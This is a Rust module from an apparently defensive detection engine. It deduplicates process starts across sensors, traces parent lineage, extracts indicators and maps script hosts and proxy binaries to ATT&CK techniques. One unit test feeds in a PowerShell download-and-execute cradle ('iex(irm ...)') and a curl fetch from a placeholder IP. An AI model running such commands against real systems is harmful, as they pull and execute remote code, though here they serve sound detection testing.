//! Starts of processes as signals look at them: each once, however many sensors saw it, and what led to it.

use std::collections::HashMap;
use std::sync::LazyLock;

use ahash::RandomState;
use regex::Regex;

use super::hit::Ioc;
use super::rows::View;
use crate::base::text::truncate_chars;
use crate::knowledge::programs::{base_name, stem};
use crate::lake::frame::{NO_STR, Row, StrId};
use crate::rules::paths;
use crate::schema::{Col, common, process as t};

/// Columns of `process` that the functions here read; signals over processes list them as a whole.
pub const COLUMNS: &[Col] = &[
    common::ACTION,
    common::USER,
    common::USER_DOMAIN,
    common::LOGON_ID,
    t::PID,
    t::PROC_GUID,
    t::IMAGE,
    t::IMAGE_NAME,
    t::CMDLINE,
    t::ORIG_NAME,
    t::SHA256,
    t::SHA1,
    t::MD5,
    t::PPID,
    t::PARENT_GUID,
    t::PARENT_IMAGE,
    t::PARENT_NAME,
    t::PARENT_CMDLINE,
    t::GPARENT_IMAGE,
    t::SIGNER,
    t::SIG_STATUS,
];

/// Two sensors write the start of one process within this time: Sysmon 1 and Security 4688 lie milliseconds apart. \[J\]
const TWIN_US: i64 = 2_000_000;

/// Longest piece of a command line or script in an explanation, in characters.
pub const QUOTE: usize = 300;

/// The starts of processes in time order. Where two sensors saw one start, the record that says more stands for both.
pub fn starts<'a>(rows: View<'a>) -> Vec<Row<'a>> {
    let mut out: Vec<Row<'a>> = Vec::with_capacity(rows.len());
    let mut sources = Vec::new();
    for row in rows.iter().filter(|r| r.text(common::ACTION) == Some("start")) {
        if !sources.contains(&row.id(common::SOURCE)) {
            sources.push(row.id(common::SOURCE));
        }
        out.push(row);
    }
    if sources.len() > 1 { without_twins(out) } else { out }
}

fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
    let mut last: HashMap<(StrId, i64, StrId), usize, RandomState> = HashMap::default();
    let mut out: Vec<Row<'_>> = Vec::with_capacity(starts.len());
    for row in starts {
        let Some(pid) = row.int(t::PID) else {
            out.push(row);
            continue;
        };
        let key = (row.id(common::HOST), pid, row.id(t::IMAGE_NAME));
        let twin = last.get(&key).and_then(|at| out.get_mut(*at));
        match twin {
            Some(twin) if row.ts() - twin.ts() <= TWIN_US && twin.id(common::SOURCE) != row.id(common::SOURCE) => {
                if richness(row) > richness(*twin) {
                    *twin = row;
                }
            }
            _ => {
                last.insert(key, out.len());
                out.push(row);
            }
        }
    }
    out
}

/// How many of the telling columns a record fills.
fn richness(row: Row<'_>) -> usize {
    let telling = [
        t::CMDLINE,
        t::PARENT_IMAGE,
        t::PARENT_CMDLINE,
        t::PROC_GUID,
        t::ORIG_NAME,
        t::SHA256,
    ];
    telling.iter().filter(|c| row.id(**c) != NO_STR).count()
}

/// Who started whom among the starts of one host.
pub struct Lineage<'a> {
    by_guid: HashMap<StrId, Row<'a>, RandomState>,
    by_pid: HashMap<i64, Vec<Row<'a>>, RandomState>,
}

impl<'a> Lineage<'a> {
    /// From the starts of one host in time order.
    pub fn new(starts: &[Row<'a>]) -> Self {
        let mut lineage = Self {
            by_guid: HashMap::default(),
            by_pid: HashMap::default(),
        };
        for row in starts {
            if row.id(t::PROC_GUID) != NO_STR {
                lineage.by_guid.entry(row.id(t::PROC_GUID)).or_insert(*row);
            }
            if let Some(pid) = row.int(t::PID) {
                lineage.by_pid.entry(pid).or_default().push(*row);
            }
        }
        lineage
    }

    /// The start of a row's parent: by its GUID, else the last start of its process id before the row, if that was
    /// the program which the row names as its parent.
    pub fn parent(&self, row: Row<'a>) -> Option<Row<'a>> {
        if let Some(parent) = self.by_guid.get(&row.id(t::PARENT_GUID)).filter(|p| p.at() != row.at()) {
            return Some(*parent);
        }
        let of_pid = self.by_pid.get(&row.int(t::PPID)?)?;
        let before = of_pid.partition_point(|p| p.ts() <= row.ts());
        let parent = before
            .checked_sub(1)
            .and_then(|i| of_pid.get(i))
            .filter(|p| p.at() != row.at())?;
        let named = row.id(t::PARENT_NAME);
        (named == NO_STR || named == parent.id(t::IMAGE_NAME)).then_some(*parent)
    }

    /// Lower-case base name of the parent: as logged, else as found.
    pub fn parent_name(&self, row: Row<'a>) -> &'a str {
        row.text(t::PARENT_NAME)
            .or_else(|| self.parent(row)?.text(t::IMAGE_NAME))
            .unwrap_or("")
    }
}

/// A program by what it is: its image's base name, and the name its version resource gives, both without `.exe` and in
/// lower case; the second is empty where it is not known or says the same.
pub fn names(row: Row<'_>) -> (String, String) {
    let image = stem(row.str(t::IMAGE_NAME)).to_lowercase();
    let original = row.str(t::ORIG_NAME).trim().to_lowercase();
    let original = original.strip_suffix(".mui").unwrap_or(&original);
    let original = stem(original);
    match original {
        "" | "-" | "?" => (image, String::new()),
        same if same == image => (image, String::new()),
        other => (image, other.to_owned()),
    }
}

/// Whether a program is one of these (a sorted set of [`crate::knowledge::programs`]), by either of its [`names`].
pub fn is_one_of(row: Row<'_>, set: &[&str]) -> bool {
    let image = row.str(t::IMAGE_NAME);
    if in_set(set, stem(image)) {
        return true;
    }
    let original = row.str(t::ORIG_NAME);
    // Nearly every program carries its own name: only the others are worth a lower-case copy.
    if original.len() < 2 || original.eq_ignore_ascii_case(image) {
        return false;
    }
    let (_, original) = names(row);
    !original.is_empty() && in_set(set, &original)
}

/// As [`crate::knowledge::programs::contains`] for a stem that is lower case already, without a copy.
pub fn in_set(set: &[&str], stem: &str) -> bool {
    !stem.is_empty()
        && (set.binary_search(&stem).is_ok()
            || set
                .iter()
                .filter_map(|entry| entry.strip_suffix('*'))
                .any(|prefix| stem.starts_with(prefix)))
}

/// A quotation of at most [`QUOTE`] characters, on one line.
pub fn quote(text: &str) -> String {
    let cut = truncate_chars(text.trim(), QUOTE);
    let mut line: String = cut.split_whitespace().collect::<Vec<_>>().join(" ");
    if cut.len() < text.trim().len() {
        line.push('…');
    }
    line
}

/// What a program was started with, for a sentence: its command line, else its path, else its name.
pub fn command(row: Row<'_>) -> String {
    let text = row
        .text(t::CMDLINE)
        .or_else(|| row.text(t::IMAGE))
        .unwrap_or(row.str(t::IMAGE_NAME));
    quote(text)
}

/// Indicators of a start: hash and path of a program outside the folders of administrators, URLs of its command line.
pub fn iocs(row: Row<'_>) -> Vec<Ioc> {
    let mut out = Vec::new();
    if let Some(path) = row
        .text(t::IMAGE)
        .filter(|p| !paths::is_protected(p) && base_name(p).len() < p.len())
    {
        if let Some(hash) = row.text(t::SHA256) {
            out.push(Ioc::Sha256(hash.to_owned()));
        }
        out.push(Ioc::File(path.to_owned()));
    }
    out.extend(urls(row.str(t::CMDLINE)));
    out
}

/// The URLs of a text, at most eight, without repeats.
pub fn urls(text: &str) -> Vec<Ioc> {
    static URL: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s'"`<>|)\]};,^]{4,500}"#).ok());
    let mut out: Vec<Ioc> = Vec::new();
    for url in URL.iter().flat_map(|r| r.find_iter(text)) {
        let ioc = Ioc::Url(url.as_str().to_owned());
        if !out.contains(&ioc) {
            out.push(ioc);
        }
        if out.len() == 8 {
            break;
        }
    }
    out
}

/// ATT&CK id of running this interpreter or proxy, by its lower-case stem; `command` tells script languages apart.
pub fn technique_of(program: &str, command: &str) -> Option<&'static str> {
    Some(match program {
        "powershell" | "pwsh" | "powershell_ise" => "T1059.001",
        "cmd" => "T1059.003",
        "bash" | "sh" | "wsl" => "T1059.004",
        "wscript" | "cscript" => {
            let lower = command.to_ascii_lowercase();
            if lower.contains(".js") || lower.contains("//e:jscript") {
                "T1059.007"
            } else {
                "T1059.005"
            }
        }
        "mshta" => "T1218.005",
        "rundll32" => "T1218.011",
        "regsvr32" => "T1218.010",
        "msbuild" => "T1127.001",
        "installutil" => "T1218.004",
        "regasm" | "regsvcs" => "T1218.009",
        "cmstp" => "T1218.003",
        "msiexec" => "T1218.007",
        "odbcconf" => "T1218.008",
        "verclsid" => "T1218.012",
        "hh" => "T1218.001",
        "control" => "T1218.002",
        "forfiles" | "pcalua" => "T1202",
        "wmic" => "T1047",
        "schtasks" => "T1053.005",
        "certutil" | "curl" | "bitsadmin" => "T1105",
        _ => return None,
    })
}

/// Starts for the unit tests of signals.
#[cfg(test)]
pub mod testing {
    use super::*;
    use crate::signals::testing::Sample;

    /// A start on `ws01` at `time` (RFC 3339) of `image` by `parent`, both as paths or base names.
    pub fn start(sample: &mut Sample, time: &str, image: &str, parent: &str, line: &str) {
        start_as(sample, time, (None, image), (None, parent), line);
    }

    /// The same with process ids.
    pub fn start_as(
        sample: &mut Sample,
        time: &str,
        child: (Option<i64>, &str),
        parent: (Option<i64>, &str),
        line: &str,
    ) {
        sample.row(&t::TABLE, "ws01", time, |b| {
            for (col, pid) in [(t::PID, child.0), (t::PPID, parent.0)] {
                if let Some(pid) = pid {
                    b.int(col, pid);
                }
            }
            b.text(t::IMAGE, child.1);
            b.text(t::IMAGE_NAME, &base_name(child.1).to_lowercase());
            b.text(t::PARENT_IMAGE, parent.1);
            b.text(t::PARENT_NAME, &base_name(parent.1).to_lowercase());
            b.text(t::CMDLINE, line);
        });
    }

    /// The hits of one signal on one start.
    pub fn hits_of(
        signal: &dyn crate::signals::Signal,
        image: &str,
        parent: &str,
        line: &str,
    ) -> Vec<crate::signals::Hit> {
        let mut sample = Sample::default();
        start(&mut sample, "2026-03-02T09:00:00Z", image, parent, line);
        sample.hits(signal)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_end_where_their_quotes_end() {
        let found = urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
        assert_eq!(
            found,
            [
                Ioc::Url("http://192.0.2.1/a".to_owned()),
                Ioc::Url("https://b.example/x?y=1".to_owned())
            ]
        );
    }

    #[test]
    fn a_quotation_is_one_short_line() {
        assert_eq!(quote(" a\n b\tc "), "a b c");
        assert_eq!(quote(&"あ".repeat(QUOTE + 5)).chars().count(), QUOTE + 1);
    }
}
